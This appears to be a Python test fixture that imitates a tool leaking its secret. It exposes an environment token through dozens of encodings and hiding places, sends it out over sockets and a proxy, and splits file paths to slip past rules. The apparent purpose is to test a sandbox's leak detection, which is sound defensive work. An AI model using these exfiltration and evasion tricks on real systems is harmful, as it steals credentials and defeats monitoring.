"""A tool that gives its secret away in every way we know; the attack tests declare it as ``leaky``.

It gets the secret as real tools get theirs, in a variable: ``leaky MODE [ARGUMENTS]``.  Only the
standard library, and no import of ours: it runs in the sandbox of a tool.
"""

# ruff: noqa: PTH103, PTH118, PTH211 - small and plain, as an attacker writes
import base64
import codecs
import gzip
import html
import io
import json
import os
import shlex
import socket
import sys
import time
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable

SECRET = os.environ.get("LEAKY_SECRET", "no-secret-in-environment")
RAW = SECRET.encode()
ARGUMENTS = sys.argv[2:]


def say(data: str | bytes, stream: int = 1) -> None:
    """Write at once, past every buffer."""
    data = data.encode() if isinstance(data, str) else data
    while data:
        data = data[os.write(stream, data) :]


def b64(data: bytes) -> bytes:
    return base64.b64encode(data)


def picture() -> bytes:
    """A PNG with the secret in a comment."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        check = zlib.crc32(kind + body).to_bytes(4, "big")
        return len(body).to_bytes(4, "big") + kind + body + check

    head = bytes.fromhex("00000001000000010800000000")
    chunks = chunk(b"IHDR", head) + chunk(b"tEXt", b"Comment\0" + RAW)
    return b"\x89PNG\r\n\x1a\n" + chunks + chunk(b"IDAT", zlib.compress(b"\0\0"))


def archive() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("secret.txt", b"x" * 300 + RAW)
    return target.getvalue()


def xxd() -> str:
    lines = []
    for start in range(0, len(RAW), 16):
        part = RAW[start : start + 16]
        words = " ".join(part[i : i + 2].hex() for i in range(0, len(part), 2))
        lines.append(f"{start:08x}: {words:<40} {part.decode()}\n")
    return "".join(lines)


def slowly(size: int, alternate: bool = False) -> None:
    for start in range(0, len(RAW), size):
        say(RAW[start : start + size], 2 if alternate and start // size % 2 else 1)
        time.sleep(0.02)


def fail() -> None:
    raise RuntimeError("bad token " + SECRET)


#: What is printed, by mode.
PRINTED: dict[str, Callable[[], str | bytes]] = {
    "plain": lambda: f"token={SECRET}\n",
    "env": lambda: "".join(f"{name}={value}\n" for name, value in os.environ.items()),
    "json": lambda: json.dumps({"token": SECRET}) + "\n",
    "unicode": lambda: "".join(f"\\u{c:04x}" for c in RAW) + "\n",
    "shell": lambda: f"export X={shlex.quote(SECRET)}\n" + "".join("\\" + c for c in SECRET),
    "pem": lambda: f"-----BEGIN PRIVATE KEY-----\n{SECRET}\n-----END PRIVATE KEY-----\n",
    "reverse": lambda: SECRET[::-1] + "\n",
    "base64": lambda: b64(RAW) + b"\n",
    "base64-1": lambda: b64(b"x" + RAW + b"yz") + b"\n",
    "base64-2": lambda: b64(b"xy" + RAW + b"z") + b"\n",
    "base64-wrapped": lambda: base64.encodebytes(b"user:" * 9 + RAW + b":" + b"z" * 80),
    "base64-url": lambda: base64.urlsafe_b64encode(b"\xff\xfe" + RAW) + b"\n",
    "base64-twice": lambda: b64(b64(RAW)) + b"\n",
    "base32": lambda: base64.b32encode(RAW) + b"\n",
    "hex": lambda: RAW.hex() + "\n",
    "hex-upper": lambda: RAW.hex().upper() + "\n",
    "hex-colons": lambda: RAW.hex(":") + "\n",
    "hex-spaces": lambda: RAW.hex(" ").upper() + "\n",
    "hex-c": lambda: "".join(f"\\x{c:02x}" for c in RAW) + "\n",
    "xxd": xxd,
    "url": lambda: urllib.parse.quote(SECRET, "") + "\n",
    "url-all": lambda: "".join(f"%{c:02X}" for c in RAW) + "\n",
    "html": lambda: html.escape(SECRET) + "\n",
    "html-all": lambda: "".join(f"&#{c};" for c in RAW) + "\n",
    "ansi": lambda: f"\x1b[31m{SECRET[:9]}\x1b[0m\x1b[1m{SECRET[9:]}\x1b[0m\n",
    "zero-width": lambda: "\u200b".join(SECRET) + "\n",
    "backspace": lambda: "".join(c + "x\b" for c in SECRET) + "\n",
    "carriage-return": lambda: f"xxxxx\r{SECRET[:10]}\r\x1b[10C{SECRET[10:]}\n",
    "utf-16": lambda: SECRET.encode("utf-16"),
    "utf-32": lambda: SECRET.encode("utf-32-le"),
    "gzip": lambda: gzip.compress(RAW),
    "gzip-base64": lambda: b64(gzip.compress(RAW)) + b"\n",
    "zip": archive,
    "png": picture,
    "png-base64": lambda: b64(picture()) + b"\n",
    "rot13": lambda: codecs.encode(SECRET, "rot13") + "\n",
    "swapped-case": lambda: SECRET.swapcase() + "\n",
    "one-a-line": lambda: "\n".join(SECRET) + "\n",
    "dashed": lambda: "-".join(SECRET) + "\n",
    "numbers": lambda: " ".join(str(c) for c in RAW) + "\n",
}

#: What goes into a file: ``leaky file NAME FORM``.
FORMS: dict[str, Callable[[], bytes]] = {
    "plain": lambda: RAW,
    "base64": lambda: b64(RAW),
    "reversed": lambda: RAW[::-1],
    "gzip": lambda: gzip.compress(RAW),
    "zlib": lambda: zlib.compress(RAW),
    "zip": archive,
    "utf-16": lambda: SECRET.encode("utf-16"),
}


def write_file() -> None:
    with open(ARGUMENTS[0], "wb") as file:
        file.write(FORMS[ARGUMENTS[1]]())


def xattr() -> None:
    with open(ARGUMENTS[0], "w"):
        pass
    os.setxattr(ARGUMENTS[0], b"user.loot", RAW)


def times() -> None:
    for number, value in enumerate(RAW):
        name = os.path.join(ARGUMENTS[0], f"m{number:02}")
        with open(name, "w"):
            pass
        os.utime(name, (value, value))


def daemon() -> None:
    """Leave session and parent, then write for some seconds."""
    if os.fork():
        return
    os.setsid()
    for descriptor in range(3):
        os.close(descriptor)
    end = time.time() + float(ARGUMENTS[1])
    while time.time() < end:
        with open(ARGUMENTS[0], "w") as file:
            file.write(f"{time.time()} {SECRET}")
        time.sleep(0.1)
    os._exit(0)


def send(kind: socket.SocketKind) -> None:
    with socket.socket(socket.AF_INET, kind) as link:
        link.settimeout(3)
        link.connect((ARGUMENTS[0], int(ARGUMENTS[1])))
        link.sendall(RAW + b"\n")


def send_by_proxy() -> None:
    """Through the one way out that a tool has."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    target = f"{ARGUMENTS[0]}:{ARGUMENTS[1]}"
    for head in (f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n{SECRET}",
                 f"GET http://{target}/{SECRET} HTTP/1.1\r\nHost: {target}\r\n\r\n"):  # fmt: skip
        with socket.create_connection((proxy.hostname, proxy.port), 3) as link:
            link.sendall(head.encode())
            say(link.recv(4096))


def send_unix() -> None:
    with socket.socket(socket.AF_UNIX) as link:
        link.connect("".join(ARGUMENTS))
        link.sendall(RAW)


def pour() -> None:
    """Into a FIFO that somebody may be reading."""
    descriptor = os.open("".join(ARGUMENTS), os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, RAW)
    time.sleep(0.2)


def cat() -> None:
    with open("".join(ARGUMENTS), "rb") as file:  # in pieces, so that no rule sees a path
        say(file.read())


def count() -> None:
    with open(ARGUMENTS[0], "a") as file:
        file.write("1\n")


ACTIONS: dict[str, Callable[[], object]] = {
    "stderr": lambda: say(f"token={SECRET}\n", 2),
    "split": lambda: slowly(3),
    "interleaved": lambda: slowly(4, alternate=True),
    "trace": fail,
    "file": write_file,
    "filename": lambda: open(os.path.join(ARGUMENTS[0], "f_" + SECRET), "w").close(),
    "folder": lambda: os.makedirs(os.path.join(ARGUMENTS[0], "d_" + SECRET)),
    "symlink": lambda: os.symlink(SECRET, ARGUMENTS[0]),
    "xattr": xattr,
    "mtime": times,
    "daemon": daemon,
    "send": lambda: send(socket.SOCK_STREAM),
    "send-udp": lambda: send(socket.SOCK_DGRAM),
    "send-unix": send_unix,
    "send-by-proxy": send_by_proxy,
    "pour": pour,
    "cat": cat,
    "count": count,
    "stdin": lambda: say(sys.stdin.buffer.read()),
    "argv": lambda: say(json.dumps(ARGUMENTS) + "\n"),
    "sleep": lambda: time.sleep(float(ARGUMENTS[0])),
}

if __name__ == "__main__":
    mode = sys.argv[1]
    if mode in PRINTED:
        say(PRINTED[mode]())
    else:
        ACTIONS[mode]()
